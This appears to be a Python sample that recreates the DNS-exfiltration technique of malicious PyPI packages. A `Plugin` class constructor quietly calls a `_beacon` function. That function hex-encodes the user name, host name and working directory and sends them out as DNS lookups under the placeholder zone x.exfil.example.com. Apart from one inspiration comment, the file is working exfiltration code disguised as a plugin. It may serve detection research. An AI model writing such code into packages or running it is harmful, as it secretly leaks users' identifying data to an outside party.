# Inspired by DNS-exfiltration in malicious PyPI packages reported by JFrog/Sonatype (2021-2022): user/host/cwd hex-encoded into labels resolved under an attacker zone.
import getpass
import os
import socket

_ZONE = "x.exfil.example.com"


def _chunks(s: str, n: int = 60):
    for i in range(0, len(s), n):
        yield s[i:i + n]


def _beacon():
    info = f"{getpass.getuser()}|{socket.gethostname()}|{os.getcwd()}"
    encoded = info.encode().hex()
    for idx, label in enumerate(_chunks(encoded)):
        try:
            socket.gethostbyname(f"{label}.{idx}.{_ZONE}")
        except socket.gaierror:
            pass


class Plugin:
    def __init__(self):
        _beacon()
